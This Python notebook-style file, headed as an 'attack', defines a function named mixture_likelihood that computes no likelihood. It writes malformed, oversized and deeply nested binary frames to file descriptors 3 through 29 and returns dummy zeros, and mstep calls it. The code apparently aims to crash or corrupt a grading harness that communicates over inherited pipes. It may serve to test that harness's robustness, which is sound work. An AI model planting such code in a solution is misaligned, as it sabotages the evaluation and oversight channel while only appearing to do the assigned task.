# attack: frames that are cut, far too long, nested, or no JSON
# %% cell mixture_likelihood
import os
import struct

BAD = [struct.pack(">II", 2**32 - 1, 2**32 - 1), struct.pack(">II", 100_000, 0) + b"[" * 100_000,
       struct.pack(">II", 4, 0) + b"\xff\xfe{}", b"\0", struct.pack(">II", 2, 9) + b"{}" + b"x" * 9]
turns = iter(range(10**9))


def mixture_likelihood(x, logits, means, lsigmas):
    for descriptor in range(3, 30):
        try:
            os.write(descriptor, BAD[next(turns) % len(BAD)])
        except OSError:
            pass
    return tf.zeros((len(x), 1))

# %% cell mstep
def mstep(x, posterior):
    return mixture_likelihood(x, 0, 0, 0)
